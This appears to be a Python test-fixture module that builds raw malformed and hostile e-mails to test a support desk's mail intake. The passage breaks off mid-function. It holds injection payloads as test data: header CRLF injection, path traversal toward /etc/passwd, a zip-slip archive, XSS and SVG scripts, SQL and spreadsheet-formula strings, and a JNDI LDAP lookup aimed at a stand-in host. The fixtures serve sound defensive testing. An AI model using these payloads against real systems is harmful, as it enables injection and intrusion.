"""Odd and hostile inbound e-mails for testing the mail intake of a support desk.

Every mail is written byte by byte, on purpose without the standard library's mail builder, because that
builder refuses most of the damage wanted here. All people, places and texts are invented.
"""

from __future__ import annotations

import base64
import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Sequence
from dataclasses import dataclass

REQUESTER = "Rina Requester <requester@example.com>"
DATE = "Mon, 02 Mar 2026 08:15:00 +0700"
PLAIN = "text/plain; charset=utf-8"
HTML = "text/html; charset=utf-8"

Text = str | bytes
Header = tuple[Text, Text]

_COMPLAINTS: tuple[tuple[str, str], ...] = (
    ("Lampu jalan mati", "Selamat pagi, lampu jalan di depan gang Melati sudah tiga malam mati. Mohon dicek ya."),
    (
        "Air PAM tidak keluar",
        "Pak, air di rumah saya tidak keluar dari kemarin sore. Tetangga juga sama. Kapan nyala lagi?",
    ),
    ("Sampah menumpuk", "Sampah di ujung pasar sudah seminggu tidak diangkut, baunya sampai ke kelas anak-anak."),
    (
        "Jalan berlubang",
        "Ada lubang besar dekat jembatan, tadi pagi ada yang jatuh dari motor. Tolong segera ditambal.",
    ),
    ("Tagihan dobel", "Saya ditagih dua kali bulan ini padahal sudah bayar tanggal 3. Bukti transfer ada di saya."),
    ("KTP belum jadi", "Mau tanya, KTP saya sudah dua bulan belum jadi. Harus lapor ke siapa lagi?"),
    ("Got mampet", "Got depan rumah mampet, kalau hujan airnya masuk ke teras. Minta tolong petugasnya datang."),
    ("Internet putus terus", "Min, wifi di balai warga putus-putus terus. Rapat online tadi malam jadi bubar."),
    (
        "Suara bising malam",
        "Bengkel sebelah masih kerja sampai jam 1 malam. Bayi saya tidak bisa tidur. Mohon ditindak.",
    ),
    (
        "Pohon hampir roboh",
        "Pohon asem di dekat sekolah sudah miring sekali, takutnya kena anak-anak. Makasih sebelumnya.",
    ),
)
_REPLIES: tuple[str, ...] = (
    "Sudah saya coba, Pak, tapi masih sama saja.",
    "Terima kasih, petugasnya sudah datang tadi siang. Tinggal lampu yang satu lagi.",
    "Alamatnya Gang Melati nomor 7, cat rumahnya hijau.",
    "Kok belum ada kabar ya? Sudah tiga hari saya tunggu.",
    "Oke siap, nanti sore saya di rumah.",
)
_PEOPLE = ("Sari", "Budi", "Wayan", "Dewi", "Agus", "Putri", "Joko", "Lestari", "Made", "Yusuf")


@dataclass(frozen=True, slots=True)
class Mail:
    """One raw mail and what should become of it: ``expect`` is an outcome of ``triage.models.MailOutcome``."""

    name: str
    raw: bytes
    expect: str
    why: str


def _number(name: str) -> int:
    """Return a steady number for a name, so that each mail gets its own text and sender."""
    return zlib.crc32(name.encode())


def _bytes(value: Text) -> bytes:
    """Turn text into UTF-8 bytes and leave bytes alone."""
    return value if isinstance(value, bytes) else value.encode("utf-8")


def _body(value: Text) -> bytes:
    """Turn body text into bytes with network line ends; bytes are left alone."""
    return value if isinstance(value, bytes) else value.replace("\n", "\r\n").encode("utf-8")


def _join(headers: Sequence[Header], body: Text) -> bytes:
    """Join headers and a body into one raw entity."""
    top = b"".join(_bytes(key) + b": " + _bytes(value) + b"\r\n" for key, value in headers)
    return top + b"\r\n" + _body(body)


def _b64(data: bytes) -> bytes:
    """Encode bytes as base64 in lines of 76 characters."""
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def _part(ctype: Text, body: Text, extra: Sequence[Header] = ()) -> bytes:
    """Build one plain part of a multipart mail."""
    return _join([("Content-Type", ctype), *extra], body)


def _file(ctype: str, data: bytes, disposition: Text = "attachment", extra: Sequence[Header] = ()) -> bytes:
    """Build one base64 attachment; the disposition holds the file name in whatever spelling is wanted."""
    headers: list[Header] = [("Content-Disposition", disposition), ("Content-Transfer-Encoding", "base64"), *extra]
    return _part(ctype, _b64(data), headers)


def _named(ctype: str, data: bytes, filename: str) -> bytes:
    """Build one base64 attachment with an ordinary quoted file name."""
    return _file(ctype, data, f'attachment; filename="{filename}"')


def _multi(parts: Sequence[bytes], boundary: str, *, end: bool = True) -> bytes:
    """Put parts between boundary lines, with or without the closing one."""
    mark = b"--" + boundary.encode()
    text = b"".join(mark + b"\r\n" + part + b"\r\n" for part in parts)
    return text + (mark + b"--\r\n" if end else b"")


def tiny_png(red: int = 200, green: int = 30, blue: int = 30) -> bytes:
    """Build a valid picture of one pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        """Build one chunk with its length and check sum."""
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixel = zlib.compress(bytes((0, red, green, blue)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixel) + chunk(b"IEND", b"")


def _zip(members: Sequence[tuple[str, bytes]]) -> bytes:
    """Build a small archive whose bytes are the same on every run."""
    store = io.BytesIO()
    with zipfile.ZipFile(store, "w", zipfile.ZIP_DEFLATED) as archive:
        for filename, data in members:
            archive.writestr(zipfile.ZipInfo(filename, (2026, 3, 2, 8, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return store.getvalue()


def _pdf() -> bytes:
    """Build a bare document of one empty page, with a correct cross-reference table."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>",
    )
    out = b"%PDF-1.4\n"
    table = b"xref\n0 4\n0000000000 65535 f \n"
    for index, data in enumerate(objects, 1):
        table += b"%010d 00000 n \n" % len(out)
        out += b"%d 0 obj" % index + data + b"endobj\n"
    return out + table + b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(out)


def _noise(size: int) -> bytes:
    """Return bytes that look random, are the same on every run and hold no colon, line end or NUL."""
    out = bytearray()
    seed = b"derau"
    while len(out) < size:
        seed = hashlib.sha256(seed).digest()
        out += bytes(byte | 0x80 for byte in seed)
    return bytes(out[:size])


class _Desk:
    """The addresses and Message-IDs in play, and the list of mails being collected."""

    def __init__(self, own: str, token: str, forged: str, sent: str, foreign: str) -> None:
        """Remember what the caller gave and start with an empty list."""
        self.own = own
        self.token = token
        self.forged = forged
        self.sent = sent
        self.foreign = foreign
        self.found: list[Mail] = []

    def keep(self, name: str, expect: str, why: str, raw: bytes) -> None:
        """Add a mail whose bytes are already complete."""
        self.found.append(Mail(name, raw, expect, why))

    def raw(
        self,
        name: str,
        body: Text | None = None,
        *,
        subject: Text | None = "",
        sender: Text | None = "",
        to: Text | None = "",
        date: Text | None = DATE,
        mid: Text | None = "",
        ctype: Text | None = PLAIN,
        encoding: str | None = "8bit",
        first: Sequence[Header] = (),
        extra: Sequence[Header] = (),
    ) -> bytes:
        """Build a mail; an empty value asks for a sensible default, None leaves the header out."""
        number = _number(name)
        title, text = _COMPLAINTS[number % len(_COMPLAINTS)]
        person = _PEOPLE[number // 16 % len(_PEOPLE)]
        headers: list[Header] = list(first)
        wanted: tuple[tuple[str, Text | None, Text], ...] = (
            ("From", sender, f"{person} <{person.lower()}.{number % 10000}@example.net>"),
            ("To", to, self.own),
            ("Subject", subject, title),
            ("Date", date, DATE),
            ("Message-ID", mid, f"<{name}@mail.example.net>"),
        )
        headers += [(key, value or default) for key, value, default in wanted if value is not None]
        headers += extra
        if ctype is not None:
            headers += [("MIME-Version", "1.0"), ("Content-Type", ctype)]
        if encoding is not None and (ctype or b"")[:10] not in ("multipart/", b"multipart/"):
            headers.append(("Content-Transfer-Encoding", encoding))
        return _join(headers, f"{text}\n\nSalam,\n{person}\n" if body is None else body)

    def human(self, name: str, why: str, body: Text | None = None, **kw: object) -> None:
        """Add a human complaint that must become a new ticket."""
        self.keep(name, "new", why, self.raw(name, body, **kw))  # type: ignore[arg-type]

    def mixed(self, name: str, why: str, parts: Sequence[bytes], *, kind: str = "mixed", text: str = "") -> None:
        """Add a human complaint with a text part and further parts after it."""
        words = text or _COMPLAINTS[_number(name) % len(_COMPLAINTS)][1]
        body = _multi([_part(PLAIN, words + "\n"), *parts], "batas-luar")
        self.human(name, why, body, ctype=f'multipart/{kind}; boundary="batas-luar"')

    def reply(self, name: str, why: str, body: Text | None = None, **kw: object) -> None:
        """Add a mail that must join the existing ticket; the requester writes unless told otherwise."""
        words = _REPLIES[_number(name) % len(_REPLIES)] + "\n"
        options: dict[str, object] = {"sender": REQUESTER, "subject": "Re: Lampu jalan mati", **kw}
        text = words if body is None else body
        self.keep(name, "thread", why, self.raw(name, text, **options))  # type: ignore[arg-type]

    def ignore(self, name: str, why: str, body: Text | None = None, **kw: object) -> None:
        """Add a mail that must not create or touch anything."""
        self.keep(name, name.partition("-")[0], why, self.raw(name, body, **kw))  # type: ignore[arg-type]

    def original(self, message_id: str) -> bytes:
        """Return the headers of the desk's own mail, as bounces quote them."""
        return _join(
            [
                ("From", f"Meja Bantuan <{self.own}>"),
                ("Reply-To", self.token),
                ("To", "requester@example.com"),
                ("Subject", "Re: Lampu jalan mati"),
                ("Message-ID", message_id),
                ("Date", "Mon, 02 Mar 2026 07:00:00 +0700"),
                ("Content-Type", PLAIN),
            ],
            b"",
        )

    def report(
        self,
        name: str,
        *,
        message_id: str,
        action: str = "failed",
        status: str = "5.1.1",
        whole: bool = True,
        to: str = "",
        sender: str = "Mail Delivery System <MAILER-DAEMON@mx.example.com>",
        fields: str = "",
        extra: Sequence[Header] = (),
        words: str = "Your message could not be delivered to one or more recipients.\n",
    ) -> bytes:
        """Build a delivery report by the book, with the original mail or only its headers at the end."""
        per_recipient = f"Final-Recipient: rfc822; requester@example.com\nAction: {action}\nStatus: {status}\n"
        status_text = f"Reporting-MTA: dns; mx.example.com\n\n{fields or per_recipient}\n"
        original = self.original(message_id)
        parts = [
            _part("text/plain; charset=us-ascii", words),
            _part("message/delivery-status", status_text),
            _part("message/rfc822", original + b"Isi surat asli.\r\n")
            if whole
            else _part("text/rfc822-headers", original),
        ]
        return self.raw(
            name,
            _multi(parts, "laporan"),
            sender=sender,
            to=to,
            subject="Undelivered Mail Returned to Sender",
            first=[("Return-Path", "<>")],
            extra=extra,
            ctype='multipart/report; report-type=delivery-status; boundary="laporan"',
        )


def _identity(desk: _Desk) -> None:
    """Add complaints with odd Message-IDs, dates, senders and recipients."""
    new = desk.human
    new("plain-complaint", "An ordinary complaint, as a yardstick.")
    new("message-id-missing", "A complaint without a Message-ID is still a complaint.", mid=None)
    new(
        "message-id-twice",
        "Two Message-IDs must not confuse intake.",
        extra=[("Message-ID", "<kedua@mail.example.net>")],
    )
    new("message-id-empty", "An empty Message-ID counts as missing.", mid=" ")
    new("message-id-only-brackets", "A Message-ID of bare angle brackets counts as missing.", mid="<>")
    new(
        "message-id-3000-characters",
        "An overlong Message-ID must not break storage.",
        mid="<" + "m" * 2981 + "@mail.example.net>",
    )
    new(
        "message-id-with-spaces-and-quotes",
        "A malformed Message-ID is just text.",
        mid="<a b'c\"d;--@mail.example.net>",
    )
    new("date-missing", "A missing Date must not stop intake.", date=None)
    new(
        "date-1970",
        "A date in 1970 comes from a broken clock, not from a robot.",
        date="Thu, 01 Jan 1970 00:00:00 +0000",
    )
    new("date-2099", "A date far ahead must not stop intake.", date="Thu, 31 Dec 2099 23:59:59 +0700")
    new(
        "date-nonsense", "A date in plain words cannot be parsed and must not matter.", date="kemarin sore habis magrib"
    )
    new(
        "date-impossible-zone",
        "An impossible day and zone must not crash the parser.",
        date="Fri, 31 Feb 2026 25:61:61 +9999",
    )
    new("to-missing", "A mail without To was still delivered to the desk.", to=None)
    new("to-undisclosed", "An empty group in To is legal.", to="undisclosed-recipients:;")
    new("desk-only-in-bcc", "The desk stands only in Bcc.", to="lurah@example.net", extra=[("Bcc", desk.own)])
    many = ",\r\n ".join(f"warga{n}@example.net" for n in range(499))
    new("to-500-recipients", "A letter to five hundred people includes the desk.", to=f"{many},\r\n {desk.own}")
    new(
        "reply-to-differs",
        "Reply-To points elsewhere; it is still a human.",
        extra=[("Reply-To", "kantor@example.com")],
    )
    new("sender-header-differs", "A secretary sends for the boss.", extra=[("Sender", "sekretaris@example.net")])
    resent: list[Header] = [
        ("Resent-From", "Pak RT <rt05@example.net>"),
        ("Resent-To", desk.own),
        ("Resent-Date", DATE),
        ("Resent-Message-ID", "<ulang@mail.example.net>"),
    ]
    new("resent-headers", "A redirected complaint stays a complaint.", first=resent, to="rt05@example.net")
    new(
        "from-many-addresses",
        "Several authors may share one From.",
        sender="Ani <ani@example.net>, Beni <beni@example.net>, c@example.net",
    )
    new(
        "from-unicode-domain",
        "Raw Unicode domains occur in the wild.",
        sender="J\u00f6rg <j\u00f6rg@b\u00fccher.example>",
    )
    new(
        "from-punycode-domain",
        "The encoded form of such a domain is an ordinary address.",
        sender="Warung <halo@xn--bcher-kva.example>",
    )
    new(
        "from-name-looks-like-address",
        "Only the part in angle brackets is the sender.",
        sender='"boss@example.net" <evil@example.com>',
    )
    new(
        "from-name-looks-like-desk",
        "The desk's address as a display name is not the desk.",
        sender=f'"{desk.own}" <evil2@example.com>',
    )
    new(
        "from-name-mailer-daemon",
        "A display name is no proof of a robot.",
        sender='"Mailer Daemon Kafe" <kafe@example.net>',
    )
    new(
        "from-local-part-resembles-no-reply",
        "A surname that merely begins like it is no robot.",
        sender="norepli.anwar@example.net",
    )
    new("from-twice", "Duplicate From headers must not crash intake.", extra=[("From", "Kembar <kembar@example.net>")])
    new("from-quoted-local-part", "Quoted local parts are legal.", sender='"wati @ rumah"@example.net')
    new(
        "from-comment-and-folding",
        "Comments and folding in From are legal.",
        sender="(halo) Tono\r\n\t<tono@example.net> (HP)",
    )
    new(
        "from-encoded-word",
        "An encoded display name is ordinary.",
        sender="=?UTF-8?B?U2l0aSDwn4y4?= <siti@example.net>",
    )
    new(
        "from-script-in-name",
        "Markup in a name must be escaped.",
        sender='"<script>alert(1)</script>" <skrip@example.net>',
    )
    new("auto-submitted-no", "Auto-Submitted: no says that a human wrote it.", extra=[("Auto-Submitted", "no")])
    raw = b"From budi@example.net Mon Mar  2 08:15:00 2026\r\n" + desk.raw("mbox-from-line")
    desk.keep("mbox-from-line", "new", "A leftover mailbox line before the headers must be skipped.", raw)


def _headers(desk: _Desk) -> None:
    """Add complaints with odd, damaged or hostile headers."""
    new = desk.human
    new("subject-missing", "A missing subject is common on phones.", subject=None)
    new(
        "subject-broken-encoded-word",
        "Broken encoded words stay readable text.",
        subject="=?utf-8?B?TGFtcHUg!!!?= =?utf-8?Q?mati=ZZ?= =?x?",
    )
    new(
        "subject-unknown-charset-word",
        "An encoded word with an unknown charset must not crash.",
        subject="=?x-unknown?Q?Air_mati?=",
    )
    new(
        "subject-split-utf8-word",
        "A character split over two encoded words is a common fault.",
        subject="=?utf-8?Q?Air_=F0=9F?=\r\n =?utf-8?Q?=92=A7?=",
    )
    new(
        "subject-rtl-override",
        "A right-to-left override must not disguise anything.",
        subject="Tagihan \u202egnp.exe\u202c mohon dicek",
    )
    new("subject-raw-utf8", "Raw 8-bit headers in UTF-8 are common.", subject="Caf\u00e9 bising \u2014 tolong")
    new(
        "subject-raw-latin1",
        "Raw 8-bit headers in latin-1 are common too.",
        subject=b"Caf\xe9 bising, tolong ditertibkan",
    )
    new(
        "subject-emoji-and-zalgo",
        "Stacked marks and emoji are only text.",
        (
            "T\u0335\u0321\u030d\u0301o\u0338\u0322l\u0337o\u0336n\u0335g \U0001f62d\U0001f64f"
            "\U0001f1ee\U0001f1e9 airnya mati"
        )
        + "\u0301" * 300,
        subject="\U0001f6a8 T\u0334o\u0335l\u0336o\u0337n\u0338g",
    )
    new("subject-100-kilobytes", "An overlong subject must be cut, not refused.", subject="tolong " * 14000)
    new(
        "header-tab-folding",
        "Headers may be folded with tabs.",
        subject="Lampu\r\n\tjalan\r\n\tmati",
        to=f"Meja\r\n\t<{desk.own}>",
    )
    new("header-nul-bytes", "NUL bytes in a header must not reach the database.", subject=b"Lampu\x00 mati\x00")
    new(
        "header-bare-cr",
        "A bare carriage return must not start a header of ours.",
        subject=b"Air mati\rBcc: korban@example.net",
    )
    new(
        "from-bare-cr-injection",
        "A bare carriage return after the address must not leak.",
        sender=b"Eko <eko@example.net>\rBcc: korban@example.net",
    )
    new(
        "subject-crlf-injection",
        "An encoded line break must not become a header in replies.",
        subject="=?utf-8?Q?Air=0D=0ABcc:_korban@example.net=0D=0A=0D=0Ahalo?=",
    )
    new(
        "from-crlf-injection",
        "An encoded line break in a name must not become a header.",
        sender="=?utf-8?B?" + base64.b64encode(b"Eka\r\nBcc: korban@example.net").decode() + "?= <eka@example.net>",
    )
    new(
        "header-line-200-kilobytes",
        "One gigantic header line must not stop intake.",
        extra=[("X-Panjang", "a" * 200_000)],
    )
    new(
        "header-3000-lines",
        "Thousands of headers must not stop intake.",
        extra=[(f"X-Isi-{n}", "isi") for n in range(3000)],
    )
    new(
        "header-line-without-colon",
        "A stray line among the headers must not hide the rest.",
        extra=[("X-Awal", "a\r\nbaris tanpa titik dua")],
    )
    new("header-empty-name", "A header without a name is junk that can be skipped.", extra=[("", "tanpa nama")])
    new(
        "references-10000-ids",
        "A gigantic References header names nothing we know.",
        extra=[("References", "\r\n ".join(f"<r{n}@x.example>" for n in range(10_000)))],
    )
    lf = desk.raw("bare-lf-everywhere").replace(b"\r\n", b"\n")
    desk.keep("bare-lf-everywhere", "new", "Local tools store mail with bare line feeds.", lf)


def _mime(desk: _Desk) -> None:
    """Add complaints with broken or unusual structure and character sets."""
    new = desk.human
    text = _part(PLAIN, "Got depan rumah mampet, tolong dicek.\n")
    new(
        "mime-boundary-missing",
        "A multipart without a boundary still holds text.",
        _multi([text], "b1"),
        ctype="multipart/mixed",
    )
    new(
        "mime-boundary-unterminated",
        "A cut-off mail still holds its first part.",
        _multi([text], "b2", end=False),
        ctype="multipart/mixed; boundary=b2",
    )
    new(
        "mime-boundary-never-occurs",
        "Text outside any part is still what the person wrote.",
        "Air mati dari kemarin, tolong ya Pak.\n",
        ctype="multipart/mixed; boundary=tidak-ada",
    )
    nested = _part(PLAIN, "Pesan paling dalam: jalan berlubang dekat jembatan.\n")
    for level in range(60):
        nested = _part(f"multipart/mixed; boundary=lapis-{level}-x", _multi([nested], f"lapis-{level}-x"))
    top = "lapis-luar"
    new(
        "mime-nested-60-levels",
        "Deep nesting must not exhaust the stack.",
        _multi([text, nested], top),
        ctype=f"multipart/mixed; boundary={top}",
    )
    garbage = b"TGFtcHUgamFs!!**YW4gbWF0aSBzdWRhaA==\r\n#### bukan base64 ####\r\n=\r\n"
    new("mime-base64-garbage", "Damaged base64 gives what can be read.", garbage, encoding="base64")
    new(
        "mime-quoted-printable-truncated",
        "A cut escape at the end must not crash.",
        b"Jalan berlubang =E2=80=94 tolong ditambal ya Pak =E2=8",
        encoding="quoted-printable",
    )
    new("mime-encoding-unknown", "An unknown transfer encoding is read as it stands.", encoding="x-rot13-ganda")
    new("mime-content-type-nonsense", "A nonsense type is treated as text.", ctype=';;;=/ text plain "')
    new("mime-content-type-missing", "No type means plain text.", ctype=None, encoding=None)
    new("mime-content-type-twice", "A repeated type must not crash.", extra=[("Content-Type", "text/plain")])
    new(
        "charset-klingon", "An unknown charset falls back to something readable.", ctype="text/plain; charset=klingon-8"
    )
    new("charset-x-unknown", "The label x-unknown is no charset.", ctype='text/plain; charset="x-unknown"')
    new(
        "charset-not-a-text-codec",
        "A label naming a byte codec must not crash or unpack anything.",
        ctype="text/plain; charset=zlib",
    )
    new(
        "charset-wrong-latin1-as-utf8",
        "Latin-1 bytes under a UTF-8 label must not be lost.",
        b"Caf\xe9 sebelah bising sekali, tolong ditertibkan.\r\n",
    )
    wide = "Listrik padam sejak subuh, mohon info.\n"
    new(
        "charset-utf16-base64",
        "UTF-16 text in base64 is legal.",
        _b64(wide.encode("utf-16")),
        ctype="text/plain; charset=utf-16",
        encoding="base64",
    )
    new(
        "charset-utf16-raw",
        "Raw UTF-16 bytes are illegal but happen.",
        wide.encode("utf-16"),
        ctype="text/plain; charset=utf-16",
    )
    new(
        "body-nul-bytes",
        "NUL bytes in the text must not reach the database.",
        b"Lampu\x00 jalan mati\x00\x00, tolong.\r\n",
    )
    new(
        "body-bare-cr",
        "Bare carriage returns in the text are line ends of old.",
        b"Lampu mati.\rTolong dicek.\rTerima kasih.\r\n",
    )
    new("body-dot-line", "A lone dot must not end the mail.", "Lampu mati.\n.\nQUIT\nMasih lanjut, tolong dicek.\n")
    new(
        "body-300-kilobytes",
        "A very long text is kept or cut, not refused.",
        "Jalan rusak, tolong diperbaiki segera. \n" * 7700,
    )
    new("body-one-line-300-kilobytes", "One endless line must not stop intake.", "tolong" * 50_000)
    new(
        "body-template-marks",
        "Template marks must come out as typed.",
        "Nama saya {{ 7*7 }} dan ${secret} <%= 1+1 %> #{x} %(own)s {0.__class__}. Air mati.\n",
        subject="{{ 7*7 }} ${jndi:ldap://x.example/a}",
    )
    new(
        "body-sql-like",
        "Text that looks like a query is only text.",
        "Robert'); DROP TABLE tickets;-- nama anak saya, belum terdaftar di sekolah.\n",
        subject="' OR 1=1 --",
    )
    new(
        "body-formula",
        "Text that looks like a formula must be safe in exports.",
        '=HYPERLINK("http://x.example";"klik")\nTagihan saya salah.\n',
        subject="=1+1",
    )
    new(
        "html-only",
        "A mail with only HTML is readable.",
        "<html><body><p>Sampah <b>menumpuk</b> di pasar.</p></body></html>\n",
        ctype=HTML,
    )
    new(
        "html-unclosed-5000-levels",
        "Deep unclosed tags must not exhaust the stack.",
        "<div>" * 5000 + "Air keruh dan bau, tolong.\n",
        ctype=HTML,
    )
    new(
        "html-hostile-with-text",
        "Scripts go, the text stays.",
        "<p onclick=alert(1)>Tagihan dobel</p><script>alert(2)</script><a href='javascript:alert(3)'>bukti</a><!--",
        ctype=HTML,
    )
    both = [text, _part(HTML, "<p>Got depan rumah <i>mampet</i>, tolong dicek.</p>\n")]
    new(
        "text-and-html-alternative",
        "Both forms say the same thing once.",
        _multi(both, "alt"),
        ctype="multipart/alternative; boundary=alt",
    )
    empty_text = [_part(PLAIN, "\n"), _part(HTML, "<p>Antrean loket terlalu lama.</p>\n")]
    new(
        "alternative-with-empty-text",
        "The text form is blank; the HTML counts.",
        _multi(empty_text, "alt"),
        ctype="multipart/alternative; boundary=alt",
    )
    inline = [
        _part(HTML, '<p>Lihat fotonya: <img src="cid:foto1@x"> <img src="cid:tidak-ada@x"></p>\n'),
        _file("image/png", tiny_png(), "inline", [("Content-ID", "<foto1@x>")]),
    ]
    new(
        "html-inline-images",
        "Pictures are named by cid, one of them missing.",
        _multi(inline, "rel"),
        ctype="multipart/related; boundary=rel",
    )


def _attachments(desk: _Desk) -> None:
    """Add complaints with odd or hostile attachments."""
    new = desk.mixed
    png = tiny_png()
    new(
        "attachments-50-pictures",
        "Fifty pictures are many but human.",
        [_named("image/png", tiny_png(n, n, n), f"foto-{n}.png") for n in range(50)],
    )
    encoded = "attachment; filename*=UTF-8''..%2F..%2Fetc%2Fpasswd"
    new(
        "attachment-path-traversal-encoded",
        "A file name must never become a path.",
        [_file("text/plain", b"root:x:0:0\n", encoded)],
    )
    pieces = "attachment; filename*0*=UTF-8''..%2F..; filename*1*=%2Fetc%2F; filename*2=\"passwd\""
    new(
        "attachment-path-traversal-pieces",
        "A name in pieces must not become a path.",
        [_file("text/plain", b"root:x:0:0\n", pieces)],
    )
    new(
        "attachment-path-traversal-plain",
        "A plain path must be cut to its last part.",
        [_named("text/plain", b"x\n", "../../etc/passwd")],
    )
    new(
        "attachment-windows-path",
        "Backslashes and device names are unsafe too.",
        [_named("text/plain", b"x\n", "C:\\\\Windows\\\\..\\\\CON")],
    )
    new(
        "attachment-name-nul-and-newline",
        "Control characters in a name must go.",
        [_file("image/png", png, "attachment; filename*=UTF-8''a%00b%0D%0Ac.png")],
    )
    new(
        "attachment-name-rtl-override",
        "A reversed name must not disguise a program.",
        [_named("application/octet-stream", b"MZ", "foto\u202egnp.exe")],
    )
    new(
        "attachment-name-2000-characters",
        "An overlong name must be cut.",
        [_named("image/png", png, "f" * 2000 + ".png")],
    )
    new(
        "attachment-name-unknown-charset",
        "A name in an unknown charset must not crash.",
        [_file("image/png", png, "attachment; filename*=x-unknown''f%ff.png")],
    )
    new(
        "attachments-without-name",
        "Attachments may lack a name.",
        [_file("image/png", png), _file("application/octet-stream", b"abc")],
    )
    new(
        "attachments-same-name",
        "Two files of one name must both survive.",
        [_named("image/png", png, "a.png"), _named("image/png", tiny_png(1, 2, 3), "a.png")],
    )
    new("attachment-empty", "A file of no bytes is possible.", [_named("image/jpeg", b"", "kosong.jpg")])
    new(
        "attachment-exe",
        "A program is not opened, but the complaint counts.",
        [_named("application/x-msdownload", b"MZ\x90\x00" + bytes(60), "tagihan.pdf.exe")],
    )
    new(
        "attachment-heic-that-is-text",
        "The name says picture, the bytes say text.",
        [_named("image/heic", b"ini bukan foto\n", "IMG_0042.HEIC")],
    )
    new(
        "attachment-png-that-is-html",
        "Markup under a picture's name must never be served as a page.",
        [_named("image/png", b"<script>alert(1)</script>", "foto.png")],
    )
    new(
        "attachment-svg-with-script",
        "A drawing may carry a script.",
        [_named("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "peta.svg")],
    )
    new("attachment-pdf", "A document is ordinary.", [_named("application/pdf", _pdf(), "bukti-transfer.pdf")])
    new(
        "attachment-zip",
        "An archive is ordinary.",
        [_named("application/zip", _zip([("foto.png", png), ("catatan.txt", b"halo\n")]), "bukti.zip")],
    )
    slip = _zip([("../../../tmp/jahat.sh", b"#!/bin/sh\n"), ("besar.txt", bytes(2_000_000))])
    new(
        "attachment-zip-slip-and-bomb",
        "An archive with hostile members must not be unpacked.",
        [_named("application/zip", slip, "foto.zip")],
    )
    new(
        "attachment-winmail-dat",
        "Outlook's own wrapping is kept as a file.",
        [_named("application/ms-tnef", b"\x78\x9f\x3e\x22" + _noise(120), "winmail.dat")],
    )
    new(
        "attachment-base64-garbage",
        "A damaged file must not lose the text.",
        [
            _part(
                "image/png",
                "@@@ rusak @@@\n====\n",
                [("Content-Transfer-Encoding", "base64"), ("Content-Disposition", 'attachment; filename="rusak.png"')],
            )
        ],
    )
    event = (
        "BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:rapat-1@example.net\n"
        "DTSTART:20260305T020000Z\nSUMMARY:Rapat warga\nEND:VEVENT\nEND:VCALENDAR\n"
    )
    new(
        "calendar-invite",
        "A human invites the desk and writes why.",
        [_part("text/calendar; charset=utf-8; method=REQUEST", event)],
        text="Mohon petugas hadir di rapat warga soal got.",
    )
    new(
        "smime-signed",
        "A signature does not change the text.",
        [_named("application/pkcs7-signature", b"\x30\x80" + _noise(200), "smime.p7s")],
        kind='signed; protocol="application/pkcs7-signature"; micalg=sha-256',
    )
    secret = "-----BEGIN PGP MESSAGE-----\n\nhQEMAzU5invalidinvalidinvalid\n=abcd\n-----END PGP MESSAGE-----\n"
    sealed = [
        _part("application/pgp-encrypted", "Version: 1\n"),
        _part('application/octet-stream; name="encrypted.asc"', secret),
    ]
    desk.human(
        "pgp-encrypted",
        "A human wrote it, though the desk cannot read it.",
        _multi(sealed, "pgp"),
        ctype='multipart/encrypted; protocol="application/pgp-encrypted"; boundary=pgp',
        subject="Laporan rahasia",
    )
    photo = _multi([_part(PLAIN, "\n"), _named("image/png", png, "IMG_0001.png")], "foto")
    desk.human(
        "empty-body-one-picture",
        "A picture without words is a report from a phone.",
        photo,
        ctype="multipart/mixed; boundary=foto",
        subject=" ",
    )
    desk.human(
        "picture-as-whole-mail",
        "The whole mail is one picture.",
        _b64(png),
        ctype='image/png; name="lubang.png"',
        encoding="base64",
        subject="Jalan berlubang",
    )
    forward = (
        "Diteruskan ya Min, ini dari ibu saya.\n\n---------- Forwarded message ---------\nFrom: Ibu"
        " Tini <tini@example.net>\nDate: Sun, 1 Mar 2026 at 19:20\nSubject: air\nTo: Anak "
        "<anak@example.net>\n\nAir di rumah ibu mati, tolong laporkan.\n"
    )
    desk.human("forwarded-in-text", "A forwarded letter is a new matter.", forward, subject="Fwd: air")
    bad_end = [_file("message/rfc822", b"ini bukan surat", 'attachment; filename="surat.eml"')]
    new("attached-mail-in-base64", "An attached mail must not be base64, but some are.", bad_end)


def _no_proof(desk: _Desk) -> None:
    """Add complaints that name the existing ticket in ways that prove nothing."""
    new = desk.human
    new("forged-token-in-to", "A forged token proves nothing.", to=desk.forged)
    new(
        "forged-token-in-delivered-to",
        "A forged token proves nothing in any header.",
        first=[("Delivered-To", desk.forged)],
    )
    new(
        "forged-token-and-reference",
        "A stranger with a forged token and a known reference has no proof.",
        to=desk.forged,
        extra=[("In-Reply-To", desk.sent), ("References", desk.sent)],
    )
    local, _, domain = desk.token.rpartition("@")
    new("token-cut-short", "A token that lost its last character is not valid.", to=f"{local[:-1]}@{domain}")
    new(
        "token-in-body-only",
        "An address in the text is not an address of delivery.",
        f"Katanya harus balas ke {desk.token} ya? Lampu saya mati.\n",
    )
    new("token-in-subject-only", "A subject is not an address of delivery.", subject=f"Untuk {desk.token}")
    new(
        "token-in-from-name",
        "A display name is not an address of delivery.",
        sender=f'"{desk.token}" <penipu@example.net>',
    )
    new(
        "token-in-to-display-name",
        "A display name in To is not an address of delivery.",
        to=f'"{desk.token}" <{desk.own}>',
    )
    new("token-in-reply-to", "Reply-To is chosen by the sender and proves nothing.", extra=[("Reply-To", desk.token)])
    inner = _join(
        [
            ("From", "x@example.net"),
            ("To", desk.token),
            ("Delivered-To", desk.token),
            ("References", desk.sent),
            ("Subject", "Surat lama"),
            ("Message-ID", "<lama@mail.example.net>"),
        ],
        "Isi surat lama.\n",
    )
    desk.mixed(
        "attached-mail-with-token",
        "Headers of an attached mail do not count.",
